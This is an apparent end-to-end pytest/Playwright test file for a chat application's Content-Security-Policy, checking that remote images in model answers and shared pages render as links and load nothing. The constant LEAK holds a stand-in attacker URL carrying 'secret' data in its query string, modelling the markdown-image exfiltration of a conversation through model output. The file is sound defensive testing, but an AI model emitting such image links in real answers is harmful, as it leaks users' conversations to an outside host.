"""The Content-Security-Policy as a browser enforces it: model output that tries to send the
conversation away through an image loads nothing, and every page works under the policy
(the `page` fixture fails any test that causes a violation)."""

import pytest

from tests.e2e.conftest import ADMIN, PASSWORD, shot
from tests.e2e.test_chat import last_answer, send, wait_complete
from tests.e2e.test_sidebar import import_conversation, open_menu

pytestmark = pytest.mark.e2e

LEAK = "https://attacker.example/pixel.png?q=my-secret-plans"
DOT = (  # a 1x1 PNG
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def outside_requests(page, origin: str) -> list[str]:
    """Every request the page makes to anywhere but `origin`, from now on."""
    seen: list[str] = []
    page.on(
        "request",
        lambda request: (
            request.url.startswith(("http:", "https:", "ws:", "wss:"))
            and not request.url.startswith((origin, origin.replace("http", "ws", 1)))
            and seen.append(request.url)
        ),
    )
    return seen


def test_a_violation_fails_the_test(page, parley_server):
    page.goto("/accounts/login/")
    page.evaluate("document.body.setAttribute('style', 'color: red')")
    page.wait_for_function("() => getComputedStyle(document.body).color !== 'rgb(255, 0, 0)'")
    page.evaluate("0")
    assert any("style-src" in v for v in page.csp_violations), page.csp_violations
    page.csp_violations.clear()  # seen: this one was on purpose


def test_a_remote_image_in_an_answer_is_a_link_and_loads_nothing(signed_in, parley_server):
    page = signed_in
    outside = outside_requests(page, parley_server.url)
    send(page, f"echo: Here: ![quarterly chart]({LEAK})\n\nand a dot ![dot]({DOT})")
    wait_complete(page)
    body = last_answer(page).locator("[data-testid=message-body]")
    link = body.locator("a.image-link")
    assert link.get_attribute("href") == LEAK
    assert link.inner_text() == "quarterly chart"
    assert link.get_attribute("target") == "_blank"
    assert "noreferrer" in link.get_attribute("rel")
    assert body.locator("img").count() == 1  # the data: image stays an image
    assert body.locator("img").get_attribute("src") == DOT
    assert outside == []
    shot(page, "remote-image-as-link")


def test_an_image_from_an_allowed_host_loads_inline(signed_in, parley_server):
    page = signed_in
    src = f"{parley_server.image_origin}/pixel.png"
    send(page, f"echo: ![allowed]({src})")
    wait_complete(page)
    image = last_answer(page).locator("[data-testid=message-body] img")
    assert image.get_attribute("src") == src
    assert image.get_attribute("alt") == "allowed"


def test_maths_and_tables_keep_their_styles_without_inline_style(signed_in):
    page = signed_in
    send(page, "echo: $$\\frac{1}{3}$$\n\n| a | b |\n| --: | :-: |\n| 1 | 2 |")
    wait_complete(page)
    body = last_answer(page).locator("[data-testid=message-body]")
    # The answer's last render may land just after its state turns complete.
    body.locator("td").first.wait_for()
    page.wait_for_function(
        """() => {
            const cells = document.querySelectorAll('[data-testid=message-body] td');
            return cells.length && getComputedStyle(cells[0]).textAlign === 'right';
        }"""
    )
    assert body.locator(".katex .vlist").first.evaluate("e => e.style.height") != ""
    assert body.locator("[data-css]").count() == 0


def test_a_shared_page_shows_remote_images_as_links(signed_in, parley_server):
    page = signed_in
    shared = import_conversation(page, "Leaky", f"See ![secret]({LEAK})")
    page.reload()
    open_menu(page, shared).locator("[data-testid=share]").click()
    url = page.locator("[data-testid=share-url]").input_value()
    page.click("dialog.modal >> text=Done")
    outside = outside_requests(page, parley_server.url)
    page.goto(url)
    body = page.locator("[data-testid=message-body]").last
    body.locator("a.image-link").wait_for()
    assert body.locator("img").count() == 0
    assert outside == []


def test_chat_dialogs_and_menus_work_under_the_policy(signed_in):
    page = signed_in
    page.click("[data-testid=user-menu]")
    assert page.locator("[data-testid=user-menu]").get_attribute("aria-expanded") == "true"
    page.select_option("[data-testid=theme-select]", "dark")
    page.click("[data-testid=params-toggle]")
    page.locator("#params").wait_for()
    page.fill("[data-testid=preset-name]", "Careful")
    page.click("[data-testid=preset-save]")
    page.locator("[data-testid=preset]", has_text="Careful").wait_for()
    page.click("[data-testid=archived-tab]")
    assert page.locator("[data-testid=archived-tab]").get_attribute("aria-current") == "true"
    page.fill("[data-testid=conversation-filter]", "nothing like this")
    page.locator("[data-testid=search-empty], .empty-note").first.wait_for()
    page.select_option("[data-testid=endpoint-select]", "Own key")
    page.click("[data-testid=user-key]")
    page.click("[data-testid=user-key-dialog] >> text=Cancel")
    page.wait_for_selector("[data-testid=user-key-dialog]", state="detached")
    shot(page, "csp-chat-dialogs")


def test_account_pages_work_under_the_policy(signed_in):
    page = signed_in
    pages = (
        "/accounts/profile/",
        "/keys",
        "/accounts/password/change/",
        "/accounts/email/",
        "/accounts/2fa/",
        "/accounts/2fa/totp/activate/",
        "/accounts/delete/",
    )
    for path in pages:
        response = page.goto(path)
        assert response.status == 200, path
        assert "script-src 'self'" in response.headers["content-security-policy"]


def test_sign_in_and_sign_up_pages_work_under_the_policy(page):
    for path in ("/accounts/login/", "/accounts/signup/"):
        response = page.goto(path)
        assert response.status == 200, path
    page.locator("input[name=email]").wait_for()


def test_the_admin_site_works_under_the_policy(page):
    page.goto("/accounts/login/")
    page.fill("input[name=login]", ADMIN)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_selector("[data-testid=composer]")
    page.goto("/admin/")
    page.click("text=Users")
    page.locator("#result_list").wait_for()
    page.fill("#searchbar", "e2e-1")
    page.press("#searchbar", "Enter")
    page.locator("#result_list a", has_text="e2e-1@example.com").click()
    page.locator("#user_form, form[method=post]").first.wait_for()
    page.click("#toggle-nav-sidebar")
    shot(page, "csp-admin")
